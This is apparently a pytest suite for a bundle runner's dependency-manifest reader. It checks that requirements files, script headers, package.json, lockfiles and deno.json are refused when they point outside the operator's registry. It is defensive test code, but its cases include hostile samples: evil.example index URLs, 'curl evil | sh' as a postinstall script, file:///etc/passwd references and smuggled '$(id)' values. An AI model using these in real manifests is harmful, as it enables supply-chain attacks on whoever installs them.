"""What a bundle asks to have installed is read strictly, and only from the operator's registry."""

from collections.abc import Mapping

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from runwright.builds.errors import ManifestError
from runwright.builds.manifest import Manifest, has_dependencies, read_manifest
from runwright.builds.python_manifest import satisfies_python
from runwright.workers.bundles.reader import ReadFile

MIRROR = "https://mirror.example/"


Files = Mapping[str, str | bytes]


def reader(files: Files) -> ReadFile:
    """Reads the files of a bundle that is only a mapping."""

    def read(path: str, /, *, at_most: int) -> bytes | None:
        content = files.get(path)
        return (
            (content.encode() if isinstance(content, str) else content)[:at_most]
            if content is not None
            else None
        )

    return read


def read(runtime: str, files: Files, entrypoint: str = "main.py") -> Manifest | None:
    return read_manifest(
        runtime, entrypoint, files, reader(files), allowed=lambda url: url.startswith(MIRROR)
    )


def wanted(runtime: str, files: Files, entrypoint: str = "main.py") -> bool:
    return has_dependencies(runtime, entrypoint, files, reader(files))


def refusal(runtime: str, files: Files, entrypoint: str = "main.py") -> str:
    with pytest.raises(ManifestError) as caught:
        read(runtime, files, entrypoint)
    assert wanted(runtime, files, entrypoint)
    assert str(caught.value).endswith(".")
    return str(caught.value)


def package(**fields: object) -> dict[str, str]:
    return {"package.json": msgspec.json.encode(fields).decode()}


HEADER = """\
#!/usr/bin/env python
# /// script
# requires-python = ">=3.11"
# dependencies = [
#   "idna>=3",
# ]
# ///
"""


@pytest.mark.parametrize(
    "line",
    [
        "idna",
        "idna==3.7",
        "idna >= 3, < 4",
        "requests[socks,security]~=2.31  # comment",
        'idna==3.7 ; python_version < "3.12" and sys_platform == "linux"',
        "idna==3.7 \\\n    --hash=sha256:82fee1fc78add43492d3a1898bfa6d8a904cc97d8427f683ed8e798d07761aa0",
        "zope.interface (>=5)",
        f"thing @ {MIRROR}thing-1.0-py3-none-any.whl",
    ],
)
def test_requirements_by_name_are_taken_as_they_are(line: str) -> None:
    manifest = read("python", {"requirements.txt": line})
    assert manifest is not None
    (written,) = manifest.files.values()
    wanted_line = line.partition("  #")[0].replace("\\", " ")
    assert written.split() == wanted_line.split()
    assert written.count("\n") == 1


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ("--index-url https://evil.example/simple", "--index-url"),
        ("-i https://evil.example/simple", "-i"),
        ("idna --index-url=https://evil.example", "--index-url"),
        ("--extra-index-url https://evil.example/simple", "--extra-index-url"),
        ("--find-links ./wheels", "--find-links"),
        ("-f wheels", "-f"),
        ("--trusted-host evil.example", "--trusted-host"),
        ("-e .", "-e"),
        ("--editable ./thing", "--editable"),
        ("--no-binary :all:", "--no-binary"),
        ("idna --config-settings=a=b", "--config-settings"),
        ("git+https://evil.example/x.git", "by name"),
        ("https://evil.example/x.whl", "by name"),
        ("idna @ https://evil.example/x.whl", "evil.example"),
        ("idna@git+https://mirror.example/x.git", "mirror.example"),
        ("idna @ file:///etc/passwd", "/etc/passwd"),
        ("idna @ https://u:p@mirror.example/x.whl", "mirror.example"),
        ("/etc/passwd", "by name"),
        ("./thing", "by name"),
        ("thing.whl/../x", "by name"),
        ("${HOME}", "by name"),
        ("idna==$(id)", "by name"),
        ("-r ../other.txt", "outside the bundle"),
        ("-r /etc/passwd", "outside the bundle"),
        ("-rnested/../../x", "outside the bundle"),
        ("--requirement=https://evil.example/r.txt", "outside the bundle"),
        ("-c missing.txt", "not in the bundle"),
    ],
)
def test_what_leads_elsewhere_than_to_the_index_is_refused_by_name(line: str, named: str) -> None:
    message = refusal("python", {"requirements.txt": f"idna\n\n{line}\n"})
    assert named in message
    assert "requirements.txt, line 3" in message or named == "not in the bundle"


def test_no_reader_sees_other_lines_than_were_checked() -> None:
    """A comment that is continued hides the next line from some readers only."""
    text = "idna # pinned \\\n--index-url https://evil.example\nsix\x0b# \\\n--pre\n"
    manifest = read("python", {"requirements.txt": text})
    assert manifest is not None
    assert manifest.files == {"requirements.txt": "idna\nsix\n"}


def test_requirements_may_name_other_files_of_the_bundle() -> None:
    files = {
        "requirements.txt": "-r deps/base.txt\nidna",
        "deps/base.txt": "-c ../pins.txt\n-r base.txt",
        "pins.txt": "idna==3.7",
    }
    manifest = read("python", files)
    assert manifest is not None
    assert manifest.files == {name: f"{text}\n" for name, text in files.items()}
    assert "pins.txt, line 1" in refusal("python", {**files, "pins.txt": "-e ."})


def test_a_script_header_is_read() -> None:
    manifest = read("python", {"main.py": HEADER + "async def handler(input, env): ..."})
    assert manifest is not None
    assert manifest.files == {"script-requirements.txt": "idna>=3\n"}
    assert manifest.requires_python == ">=3.11"


def test_a_header_and_requirements_are_both_installed() -> None:
    manifest = read("python", {"main.py": HEADER, "requirements.txt": "pyyaml"})
    assert manifest is not None
    assert sorted(manifest.files) == ["requirements.txt", "script-requirements.txt"]


@pytest.mark.parametrize(
    "source",
    [
        '# /// script\n# dependencies = ["idna @ https://evil.example/x.whl"]\n# ///\n',
        '# /// script\n# dependencies = ["idna\\n--index-url https://evil.example"]\n# ///\n',
        '# /// script\n# dependencies = ["-r /etc/passwd"]\n# ///\n',
        '# /// script\n# dependencies = "idna"\n# ///\n',
        "# /// script\n# dependencies = [\n# ///\n",
        "# /// script\n# requires-python = 3\n# ///\n",
        HEADER + "\n" + HEADER,
    ],
)
def test_a_hostile_or_broken_header_is_refused(source: str) -> None:
    assert refusal("python", {"main.py": source})


def test_other_indexes_in_a_header_never_reach_the_installer() -> None:
    manifest = read("python", {"main.py": HEADER[:-6] + '# [tool.uv]\n# index-url = "https://evil"\n# ///\n'})
    assert manifest is not None
    assert "evil" not in "".join(manifest.files.values())


@pytest.mark.parametrize(
    ("version", "requires", "suits"),
    [
        ("3.13.0", ">=3.11", True),
        ("3.13.0", ">=3.11,<3.13", False),
        ("3.12.4", "==3.12.*", True),
        ("3.13.0", "==3.12.*", False),
        ("3.12.4", "~=3.11", True),
        ("3.12.4", "~=3.11.2", False),
        ("3.11.0", "!=3.11", False),
        ("3.14.0", ">3.13", True),
        ("3.13.0", "", True),
    ],
)
def test_the_version_of_python_is_compared_as_pep_440_has_it(
    version: str, requires: str, suits: bool
) -> None:
    assert satisfies_python(version, requires) is suits


@pytest.mark.parametrize(
    "files",
    [
        {"main.py": "pass"},
        {"main.py": "pass", "requirements.txt": "# nothing\n\n"},
        {"main.py": '# /// script\n# requires-python = ">=3.11"\n# ///\n'},
        {"main.py": "pass", "sub/requirements.txt": "idna"},
    ],
)
def test_a_bundle_that_asks_for_nothing_wants_no_layer(files: dict[str, str]) -> None:
    assert read("python", files) is None
    assert not wanted("python", files)


def test_runtimes_without_dependencies_ignore_manifests() -> None:
    for runtime in ("shell", "wasm"):
        assert not wanted(runtime, {"requirements.txt": "idna", "package.json": "{}"}, "main.sh")


def test_package_json_keeps_what_matters_to_the_installer() -> None:
    fields = {
        "name": "x",
        "type": "module",
        "scripts": {"postinstall": "curl evil | sh"},
        "dependencies": {"nanoid": "^5", "@scope/thing": "npm:other@1.2.3", "x": "latest", "y": ""},
        "overrides": {"a": {"b": "1.0.0", ".": "$x"}},
        "publishConfig": {"registry": "https://evil.example"},
    }
    manifest = read("nodejs", package(**fields))
    assert manifest is not None
    kept = msgspec.json.decode(manifest.files["package.json"])
    assert kept == {key: fields[key] for key in ("name", "dependencies", "overrides")}


@pytest.mark.parametrize(
    "group", ["dependencies", "devDependencies", "optionalDependencies", "peerDependencies"]
)
@pytest.mark.parametrize(
    "spec",
    [
        "git+ssh://git@evil.example/x.git",
        "git://evil.example/x",
        "github:user/repo",
        "user/repo",
        "http://mirror.example/x.tgz",
        "https://evil.example/x.tgz",
        "file:../x",
        "file:///etc/passwd",
        "link:../x",
        "workspace:*",
        "../x",
        "/etc/passwd",
        "~/x",
        "npm:../x",
        "npm:a@file:/etc/passwd",
        1,
    ],
)
def test_packages_from_elsewhere_than_the_registry_are_refused(group: str, spec: object) -> None:
    message = refusal(
        "nodejs",
        package(dependencies={"ok": "1"}) | package(**{"dependencies": {"ok": "1"}, group: {"bad": spec}}),
    )
    assert "bad" in message
    assert group in message


@pytest.mark.parametrize(
    "fields",
    [
        {"dependencies": {"../x": "1"}},
        {"dependencies": {"..": "1"}},
        {"dependencies": ["x"]},
        {"dependencies": {"x": "1"}, "workspaces": ["packages/*"]},
        {"dependencies": {"x": "1"}, "overrides": {"y": "file:/etc/passwd"}},
        {"dependencies": {"x": "1"}, "overrides": {"y": {"z": ["git://evil.example/x"]}}},
    ],
)
def test_broken_and_hostile_package_files_are_refused(fields: dict[str, object]) -> None:
    assert refusal("nodejs", package(**fields))


@pytest.mark.parametrize("text", ["[]", "{", '"x"', b"\xff\xfe", "[" * 100_000])
def test_a_package_file_that_is_no_object_is_refused(text: str | bytes) -> None:
    assert "package.json" in refusal("nodejs", {"package.json": text})


@pytest.mark.parametrize("field", [{}, {"devDependencies": {"x": "1"}}, {"dependencies": {}}])
def test_a_package_without_dependencies_wants_no_layer(field: dict[str, object]) -> None:
    assert read("nodejs", package(**field)) is None


def test_packages_that_came_along_are_not_installed_again() -> None:
    files = package(dependencies={"x": "1"}) | {"node_modules/x/package.json": "{}"}
    assert read("nodejs", files) is None


def test_a_lock_is_kept_and_foreign_ones_are_mentioned() -> None:
    lock = {
        "lockfileVersion": 3,
        "packages": {"": {}, "node_modules/x": {"version": "1.0.0", "resolved": f"{MIRROR}x.tgz"}},
    }
    files = package(dependencies={"x": "1"}) | {"package-lock.json": msgspec.json.encode(lock).decode()}
    manifest = read("nodejs", files)
    assert manifest is not None
    assert msgspec.json.decode(manifest.files["package-lock.json"]) == lock
    foreign = read("nodejs", package(dependencies={"x": "1"}) | {"yarn.lock": ""})
    assert foreign is not None
    assert "yarn.lock" in foreign.notes[0]


@pytest.mark.parametrize(
    "lock",
    [
        {"packages": {"../../etc": {}}},
        {"packages": {"node_modules/../../x": {}}},
        {"packages": {"src/x": {}}},
        {"packages": []},
        {"packages": {"node_modules/x": {"link": True}}},
        {"packages": {"node_modules/x": {"resolved": "https://evil.example/x.tgz"}}},
        {"packages": {"node_modules/x": {"resolved": "git+ssh://git@evil.example/x.git"}}},
        {"packages": {"node_modules/x": {"resolved": "file:../x"}}},
        {"dependencies": {"x": {"version": "https://evil.example/x.tgz"}}},
        {"dependencies": {"x": {"dependencies": {"y": {"resolved": "http://mirror.example/"}}}}},
    ],
)
def test_a_lock_that_leads_elsewhere_is_refused(lock: object) -> None:
    files = package(dependencies={"x": "1"}) | {"package-lock.json": msgspec.json.encode(lock).decode()}
    assert "package-lock.json" in refusal("nodejs", files)


def test_a_manifest_beyond_all_measure_is_refused() -> None:
    assert "MiB" in refusal("python", {"requirements.txt": "#" * (8 * 1024 * 1024 + 1)})


@pytest.mark.parametrize(
    ("files", "asked"),
    [
        ({"main.ts": 'import { x } from "npm:x@1";'}, True),
        ({"main.ts": "const y = await import(`jsr:@std/assert`)"}, True),
        ({"main.ts": 'import "./lib.ts"', "lib.ts": "import 'https://modules.example/x/y.ts'"}, True),
        ({"main.ts": "export default 1", "deno.json": "{}"}, True),
        ({"main.ts": 'import "./lib.ts"', "lib.ts": "export const a = 1", "README.md": '"npm:x"'}, False),
    ],
)
def test_deno_is_asked_when_sources_name_something_outside(files: dict[str, str], asked: bool) -> None:
    manifest = read("deno", files, "main.ts")
    assert (manifest is not None) is asked
    assert manifest is None or manifest.needs_bundle


@pytest.mark.parametrize(
    "config",
    [
        {"imports": {"file:///harness/deno_harness.js": "./evil.ts"}},
        {"imports": {"data:application/typescript,export const warm: number = 1": "./evil.ts"}},
        {"imports": {"DATA:x": "./evil.ts"}},
        {"imports": {"/harness/": "./"}},
        {"imports": {"node:fs": "./evil.ts"}},
        {"scopes": {"file:///harness/": {"data:": "./evil.ts"}}},
        {"imports": []},
        {"scopes": {"./": 1}},
        {"imports": {" file:///harness/": "./"}},
        {"imports": {"da\tta:x": "./evil.ts"}},
        {"importMap": "./map.json"},
        {"preload": ["./evil.ts"]},
        {"permissions": {"default": {"all": True}}},
        {"workspace": ["./a"]},
    ],
)
def test_a_deno_config_cannot_reach_beyond_its_bundle(config: dict[str, object]) -> None:
    assert "deno.json" in refusal(
        "deno", {"deno.json": msgspec.json.encode(config), "main.ts": ""}, "main.ts"
    )


@pytest.mark.parametrize(
    "lock",
    [
        {"redirects": {"data:x": "file:///app/code/evil.ts"}},
        {"redirects": {"https://a/": 1}},
        {"redirects": []},
        [],
    ],
)
def test_a_deno_lock_redirects_remote_modules_only(lock: object) -> None:
    assert "deno.lock" in refusal("deno", {"deno.lock": msgspec.json.encode(lock), "main.ts": ""}, "main.ts")


def test_a_deno_config_that_says_a_thing_twice_is_refused() -> None:
    text = '{"imports": {"file:///harness/": "./"}, "imports": {}}'
    assert "twice" in refusal("deno", {"deno.json": text, "main.ts": ""}, "main.ts")


def test_a_deno_config_with_comments_is_refused_as_such() -> None:
    assert "comments" in refusal("deno", {"deno.json": "{} // mine", "main.ts": ""}, "main.ts")
    assert "deno.jsonc" in refusal("deno", {"deno.jsonc": "{}", "main.ts": ""}, "main.ts")


def test_a_deno_config_may_name_modules() -> None:
    config = {
        "imports": {"x": "npm:x@1", "@std/assert": "jsr:@std/assert@1", "./a.ts": "./b.ts"},
        "tasks": {},
    }
    manifest = read("deno", {"deno.json": msgspec.json.encode(config)}, "main.ts")
    assert manifest is not None
    assert manifest.needs_bundle
    noted = read("deno", {"package.json": "{}"}, "main.ts")
    assert noted is not None
    assert "deno.json" in noted.notes[0]


@given(st.text(max_size=400), st.text(max_size=200))
def test_no_text_breaks_the_readers(requirements: str, source: str) -> None:
    for runtime, files in (
        ("python", {"requirements.txt": requirements, "main.py": f"# /// script\n{source}\n# ///"}),
        ("nodejs", {"package.json": requirements, "package-lock.json": source}),
        ("deno", {"main.ts": source}),
    ):
        wanted(runtime, {name: text.encode("utf-8", "replace") for name, text in files.items()})
